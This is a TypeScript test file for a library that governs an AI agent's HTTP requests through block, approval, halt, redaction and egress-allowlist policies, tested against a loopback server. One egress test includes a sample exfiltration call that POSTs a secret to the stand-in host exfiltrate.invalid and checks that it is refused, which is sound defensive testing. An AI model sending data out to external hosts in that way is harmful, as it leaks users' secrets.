import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { FetchError } from "ofetch";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ApprovalRejectedError, ConfigError, HaltedError, ToolBlockedError, Warden, type PolicySetInput, type ToolCallRecord, type WardenOptions } from "agent-warden";
import { createGovernedFetch, createTrackedFetch, describeRequest } from "agent-warden/fetch";

const policies: PolicySetInput = {
  version: 1,
  default: "allow",
  policies: [
    { id: "no-admin-writes", reason: "the admin API is off limits", when: { tool: "http.post", "args.path": { matches: "^/admin" } }, action: "block" },
    { id: "approve-deletes", when: { tool: "http.delete" }, action: "require_approval", approval: { timeout: "10m" } },
    { id: "flag-puts", when: { tool: "http.put" }, action: "warn" },
  ],
};

/** What reached the loopback server: the only proof of what was actually sent. */
interface Arrival {
  method: string;
  url: string;
  body: string;
}

let server: Server;
let origin: string;
let arrivals: Arrival[];
const wardens: Warden[] = [];

beforeEach(async () => {
  arrivals = [];
  server = createServer(async (request: IncomingMessage, response) => {
    let body = "";
    for await (const chunk of request) body += chunk;
    arrivals.push({ method: request.method ?? "", url: request.url ?? "", body });
    const url = new URL(request.url ?? "/", "http://localhost");
    if (url.pathname === "/slow") return; // answers never: only an abort ends it
    response.statusCode = Number(url.searchParams.get("status") ?? 200);
    response.setHeader("content-type", "application/json");
    response.end(JSON.stringify({ ok: response.statusCode < 400, path: url.pathname }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterEach(async () => {
  for (const warden of wardens.splice(0)) warden.close();
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

function newWarden(options: Partial<WardenOptions> = {}): Warden {
  const warden = new Warden({ agentId: "http-agent", store: ":memory:", policies, ...options });
  wardens.push(warden);
  return warden;
}

async function recorded(warden: Warden): Promise<ToolCallRecord[]> {
  const calls: ToolCallRecord[] = [];
  for (const run of warden.listRuns({ limit: 500 }).reverse()) calls.push(...(await warden.getRun(run.runId)).toolCalls);
  return calls;
}

async function waitFor(condition: () => boolean, what: string): Promise<void> {
  for (let i = 0; i < 400 && !condition(); i++) await new Promise((resolve) => setTimeout(resolve, 10));
  if (!condition()) throw new Error(`timed out waiting for ${what}`);
}

describe("createGovernedFetch", () => {
  it("sends an allowed request as the tool call http.get and records its status", async () => {
    const warden = newWarden();
    const http = createGovernedFetch(warden);
    const data = await http(`${origin}/items`, { query: { page: 2 } });
    expect(data).toEqual({ ok: true, path: "/items" });
    expect(arrivals).toEqual([{ method: "GET", url: "/items?page=2", body: "" }]);
    const [call] = await recorded(warden);
    expect(call).toMatchObject({ toolName: "http.get", status: "completed", output: { status: 200 } });
    expect(call!.input).toEqual({ url: `${origin}/items`, host: "127.0.0.1", port: Number(new URL(origin).port), path: "/items", query: { page: "2" }, method: "GET" });
    expect(call!.durationMs).toBeGreaterThanOrEqual(0);
  });

  it("throws ToolBlockedError before anything is sent", async () => {
    const warden = newWarden();
    const http = createGovernedFetch(warden, { defaults: { baseURL: origin } });
    const error = await http("/admin/users", { method: "POST", body: { name: "mallory" } }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ToolBlockedError);
    expect((error as ToolBlockedError).policyId).toBe("no-admin-writes");
    expect(arrivals).toEqual([]);
    const [call] = await recorded(warden);
    expect(call).toMatchObject({ toolName: "http.post", status: "blocked", blockedReason: "the admin API is off limits" });
  });

  it("applies an egress allowlist by host: other hosts are refused before any lookup", async () => {
    const warden = newWarden({ policies: { version: 1, default: "block", policies: [{ id: "loopback-only", when: { tool: "http.*", "args.host": "127.0.0.1" }, action: "allow" }] } });
    const http = createGovernedFetch(warden);
    await http(`${origin}/ok`);
    const error = await http("https://exfiltrate.invalid/upload", { method: "POST", body: { secret: "x" } }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ToolBlockedError);
    expect(arrivals.map((a) => a.url)).toEqual(["/ok"]);
  });

  it("records body fields redacted while the server receives them as sent", async () => {
    const warden = newWarden();
    const http = createGovernedFetch(warden);
    await http(`${origin}/login`, { method: "POST", body: { user: "ada", password: "correct horse battery" } });
    expect(JSON.parse(arrivals[0]!.body)).toEqual({ user: "ada", password: "correct horse battery" });
    const [call] = await recorded(warden);
    expect((call!.input as { body: unknown }).body).toEqual({ user: "ada", password: "[REDACTED]" });
    expect(JSON.stringify(call)).not.toContain("correct horse");
  });

  it("resolves baseURL and query like ofetch, and keeps query values out of the recorded url", async () => {
    const warden = newWarden();
    const http = createGovernedFetch(warden, { defaults: { baseURL: `${origin}/api`, query: { api_key: "sk_live_0123456789abcdef" } } });
    await http("/items", { query: { page: 3 } });
    expect(arrivals[0]!.url).toBe("/api/items?api_key=sk_live_0123456789abcdef&page=3");
    const [call] = await recorded(warden);
    expect(call!.input).toMatchObject({ url: `${origin}/api/items`, path: "/api/items", query: { api_key: "[REDACTED]", page: "3" } });
  });

  it("waits for approval before sending; a rejection throws and sends nothing", async () => {
    let verdict: "approve" | "reject" = "approve";
    const warden = newWarden({ onApprovalRequest: (_request, decide) => setTimeout(() => (verdict === "approve" ? decide.approve({ reviewer: "alice" }) : decide.reject({ reviewer: "bob", reason: "keep it" })), 10) });
    const http = createGovernedFetch(warden, { defaults: { baseURL: origin } });
    await http("/items/1", { method: "DELETE" });
    expect(arrivals.map((a) => `${a.method} ${a.url}`)).toEqual(["DELETE /items/1"]);
    verdict = "reject";
    const error = await http("/items/2", { method: "DELETE" }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ApprovalRejectedError);
    expect(arrivals).toHaveLength(1);
    const calls = await recorded(warden);
    expect(calls.map((c) => [c.status, c.approval?.status])).toEqual([
      ["completed", "approved"],
      ["rejected", "rejected"],
    ]);
  });

  it("aborts a request in flight on a halt and throws HaltedError", async () => {
    const warden = newWarden();
    const http = createGovernedFetch(warden, { defaults: { baseURL: origin, retry: 2 } });
    const pending = http("/slow").catch((e: unknown) => e);
    await waitFor(() => arrivals.length === 1, "the request to arrive");
    warden.halt({ reason: "egress incident", agentId: "http-agent" });
    const error = await pending;
    expect(error).toBeInstanceOf(HaltedError);
    expect((error as HaltedError).message).toContain("egress incident");
    expect(arrivals).toHaveLength(1);
    const [call] = await recorded(warden);
    expect(call).toMatchObject({ toolName: "http.get", status: "failed" });
    expect(await http("/items").catch((e: unknown) => e)).toBeInstanceOf(HaltedError);
    expect(arrivals).toHaveLength(1);
  });

  it("records an error status as the failure ofetch throws for it; .native, which returns it, as completed", async () => {
    const warden = newWarden();
    const http = createGovernedFetch(warden, { defaults: { baseURL: origin, retry: false } });
    const error = await http("/missing", { query: { status: 404 } }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(FetchError);
    expect((error as FetchError).status).toBe(404);
    expect((await http.native(`${origin}/broken?status=500`)).status).toBe(500);
    const [thrown, returned] = await recorded(warden);
    expect(thrown).toMatchObject({ status: "failed", error: { name: "FetchError", message: expect.stringContaining("404 Not Found") } });
    expect(returned).toMatchObject({ status: "completed", output: { status: 500 } });
  });

  it("records the response body when asked, and keeps a warning visible", async () => {
    const warden = newWarden();
    const http = createGovernedFetch(warden, { defaults: { baseURL: origin }, recordResponseBody: true });
    await http("/items/9", { method: "PUT", body: { name: "x" } });
    const [call] = await recorded(warden);
    expect(call).toMatchObject({ toolName: "http.put", decision: { action: "warn", policyId: "flag-puts" }, output: { status: 200, body: { ok: true, path: "/items/9" } } });
  });

  it("governs .raw, .native and instances made with .create", async () => {
    const warden = newWarden();
    const http = createGovernedFetch(warden);
    const response = await http.raw(`${origin}/raw`);
    expect(response.status).toBe(200);
    const api = http.create({ baseURL: origin });
    await expect(api("/admin/x", { method: "POST", body: {} })).rejects.toBeInstanceOf(ToolBlockedError);
    await expect(http.native(`${origin}/admin/y`, { method: "POST", body: "{}" })).rejects.toBeInstanceOf(ToolBlockedError);
    expect((await http.native(`${origin}/native`)).status).toBe(200);
    expect(arrivals.map((a) => a.url)).toEqual(["/raw", "/native"]);
    expect((await recorded(warden)).map((c) => [c.toolName, c.status])).toEqual([
      ["http.get", "completed"],
      ["http.post", "blocked"],
      ["http.post", "blocked"],
      ["http.get", "completed"],
    ]);
  });

  it("names the tool with toolName, for policies by service", async () => {
    const warden = newWarden({ policies: { version: 1, default: "allow", policies: [{ id: "no-payments", when: { tool: "payments.*" }, action: "block" }] } });
    const http = createGovernedFetch(warden, { defaults: { baseURL: origin }, toolName: (call) => (call.path.startsWith("/v1/refunds") ? `payments.${call.method.toLowerCase()}` : `http.${call.method.toLowerCase()}`) });
    await expect(http("/v1/refunds", { method: "POST", body: { amount: 1 } })).rejects.toBeInstanceOf(ToolBlockedError);
    await http("/v1/balance");
    expect(arrivals.map((a) => a.url)).toEqual(["/v1/balance"]);
  });
});

describe("redactBeforeSend", () => {
  const CARD = "4242424242424242";
  const card = { path: "$..card_number" };

  it("masks the card number in a JSON body and the query before the request leaves; the server never sees it", async () => {
    const warden = newWarden();
    const http = createGovernedFetch(warden, { defaults: { baseURL: origin }, redactBeforeSend: { rules: [card, { path: "$.source.cvc", action: "remove" }], keys: ["ssn"] } });
    await http("/v1/charges", { method: "POST", query: { ssn: "078-05-1120", page: 2 }, body: { amount: 2800, source: { card_number: CARD, cvc: "123", exp: "12/30" } } });

    expect(arrivals).toHaveLength(1);
    expect(JSON.parse(arrivals[0]!.body)).toEqual({ amount: 2800, source: { card_number: "[REDACTED]", exp: "12/30" } });
    expect(arrivals[0]!.url).toBe("/v1/charges?ssn=%5BREDACTED%5D&page=2");
    // Policies decided on, and the ledger records, the request that was sent.
    const [call] = await recorded(warden);
    expect(call!.input).toMatchObject({ query: { ssn: "[REDACTED]", page: "2" }, body: { amount: 2800, source: { card_number: "[REDACTED]", exp: "12/30" } } });
    expect(JSON.stringify(call)).not.toContain(CARD);
  });

  it("reaches every way an agent can put the number in a request: URL, defaults, JSON text, forms, .native, a Request", async () => {
    const warden = newWarden();
    const http = createGovernedFetch(warden, { defaults: { baseURL: origin, query: { card_number: CARD } }, redactBeforeSend: { rules: [card] } });
    await http(`/lookup?card_number=${CARD}&q=1#top`);
    await http("/json", { method: "POST", body: JSON.stringify({ items: [{ card_number: CARD }] }), headers: { "content-type": "application/json" } });
    await http("/form", { method: "POST", body: new URLSearchParams({ card_number: CARD, name: "ada" }) });
    await http.native(`${origin}/native?card_number=${CARD}`, { method: "POST", body: JSON.stringify({ card_number: CARD }) });
    await http(new Request(`${origin}/request?card_number=${CARD}`, { method: "PUT", body: JSON.stringify({ card_number: CARD }) }));
    const other = http.create({ query: { card_number: CARD, extra: "x" } });
    await other("/created");

    expect(arrivals.map((a) => `${a.method} ${a.url} ${a.body}`)).toEqual([
      "GET /lookup?card_number=%5BREDACTED%5D&q=1 ",
      'POST /json?card_number=%5BREDACTED%5D {"items":[{"card_number":"[REDACTED]"}]}',
      "POST /form?card_number=%5BREDACTED%5D card_number=%5BREDACTED%5D&name=ada",
      'POST /native?card_number=%5BREDACTED%5D {"card_number":"[REDACTED]"}',
      'PUT /request?card_number=%5BREDACTED%5D {"card_number":"[REDACTED]"}',
      "GET /created?card_number=%5BREDACTED%5D&extra=x ",
    ]);
    expect(JSON.stringify(await recorded(warden))).not.toContain(CARD);
  });

  it("removes and hashes as the core's rules do, and leaves what no rule names as it was given", async () => {
    const warden = newWarden();
    const http = createGovernedFetch(warden, { defaults: { baseURL: origin }, redactBeforeSend: { rules: [{ path: "$.iban", action: "hash" }, { path: "$.debug", action: "remove" }] } });
    await http("/transfer", { method: "POST", query: { debug: "1", lang: "en" }, body: { iban: "DE89370400440532013000", password: "hunter2-hunter2", note: "rent" } });
    const sent = JSON.parse(arrivals[0]!.body) as Record<string, unknown>;
    expect(sent.iban).toMatch(/^sha256:[0-9a-f]{16}$/);
    // Only the rules apply on the way out: the API needs the password; the recorder still masks it.
    expect(sent).toMatchObject({ password: "hunter2-hunter2", note: "rent" });
    expect(arrivals[0]!.url).toBe("/transfer?lang=en");
    const [call] = await recorded(warden);
    expect(call!.input).toMatchObject({ query: { lang: "en" }, body: { iban: sent.iban, password: "[REDACTED]" } });

    // A request no rule touches is sent byte for byte.
    await http("/plain", { method: "POST", body: '{ "a": 1 }' });
    expect(arrivals[1]!.body).toBe('{ "a": 1 }');
  });

  it("refuses a rule it cannot apply when the instance is made, with a ConfigError", () => {
    const warden = newWarden();
    expect(() => createGovernedFetch(warden, { redactBeforeSend: { rules: [{ path: "card" }] } })).toThrow(ConfigError);
  });
});

describe("createTrackedFetch", () => {
  it("sends what policy would block, recording the would-be decision; a halt still stops it", async () => {
    const warden = newWarden();
    const http = createTrackedFetch(warden, { defaults: { baseURL: origin } });
    await http("/admin/users", { method: "POST", body: { name: "audit" } });
    await http("/items/1", { method: "DELETE" });
    expect(arrivals.map((a) => `${a.method} ${a.url}`)).toEqual(["POST /admin/users", "DELETE /items/1"]);
    const calls = await recorded(warden);
    expect(calls.map((c) => [c.toolName, c.status, c.decision?.action, c.approval])).toEqual([
      ["http.post", "completed", "warn", undefined],
      ["http.delete", "completed", "warn", undefined],
    ]);
    expect(calls[0]!.decision!.reason).toBe("shadow: would block: the admin API is off limits");
    expect(calls[1]!.decision!.reason).toMatch(/^shadow: would require approval/);
    expect(warden.approvals.list()).toEqual([]);

    warden.halt({ reason: "stop" });
    await expect(http("/items")).rejects.toBeInstanceOf(HaltedError);
    expect(arrivals).toHaveLength(2);
  });
});

describe("describeRequest", () => {
  it("reads method, host, path, query and body the way ofetch will send them", () => {
    expect(describeRequest("/refunds?expand=charge", { method: "post", body: JSON.stringify({ amount: 2800 }) }, { baseURL: "https://api.stripe.com/v1/" })).toEqual({
      url: "https://api.stripe.com/v1/refunds",
      host: "api.stripe.com",
      path: "/v1/refunds",
      query: { expand: "charge" },
      method: "POST",
      body: { amount: 2800 },
    });
    expect(describeRequest(new Request("http://example.test:8080/a", { method: "PATCH" }), {}, {})).toMatchObject({ host: "example.test", port: 8080, method: "PATCH", path: "/a" });
    expect(describeRequest("/x", { method: "POST", body: new URLSearchParams({ a: "1" }) }, { baseURL: "http://h" }).body).toEqual({ a: "1" });
    expect(describeRequest("/x", { method: "POST", body: new Uint8Array([1, 2]) }, { baseURL: "http://h" }).body).toBe("[binary]");
  });
});
